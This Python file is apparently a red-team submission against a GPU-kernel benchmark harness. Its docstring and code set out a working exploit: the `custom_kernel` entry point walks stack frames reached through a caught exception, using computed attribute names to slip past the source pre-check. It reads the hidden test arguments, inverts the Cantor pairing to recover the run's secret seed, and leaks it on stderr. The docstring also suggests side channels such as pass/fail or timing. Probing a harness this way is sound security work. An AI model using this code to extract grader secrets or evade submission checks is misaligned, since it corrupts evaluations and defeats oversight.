"""Attack, first submission: learn the secret seed a run of a `harness: problem` board is handed.

The stock reference-kernels harness mixes each case seed `a` with the run's seed `b` by the Cantor pairing
`c = a + (a + b)(a + b + 1) // 2` and runs `custom_kernel` in the interpreter that holds the case (`test.args` has `c`,
`test.spec` still says `a`). One frame up, both are there, and the pairing is inverted with an integer square root.
The frames are reached through a caught exception and computed attribute names, which the source pre-check does not
follow. The seed then leaves the run: here on stderr, standing for any channel a real attacker would use (a run's
pass/fail or duration, one bit per submission)."""

import math
import re
import sys

import torch

REPORTED = []


def _caller_frames():
    try:
        raise RuntimeError
    except RuntimeError as error:
        frame = getattr(error.__traceback__, "tb_" + "frame")
    while frame is not None:
        yield frame
        frame = getattr(frame, "f_" + "back")


def _unpair(a, c):
    n = (math.isqrt(8 * (c - a) + 1) - 1) // 2  # a + b, from c - a = n(n + 1) / 2
    return n - a


def _leak():
    for frame in _caller_frames():
        case = getattr(frame, "f_" + "locals").get("test")
        if case is None or not hasattr(case, "args") or "seed" not in case.args:
            continue
        public = re.search(r"seed: (\d+)", case.spec)
        if public and case.args["seed"] != int(public.group(1)):
            return _unpair(int(public.group(1)), case.args["seed"])
    return None


def custom_kernel(data):
    a, b, c = data
    if not REPORTED:
        secret = _leak()
        if secret is not None:
            print(f"leaked secret seed: {secret}", file=sys.stderr, flush=True)
            REPORTED.append(secret)
    torch.add(a, b, out=c)
    return c
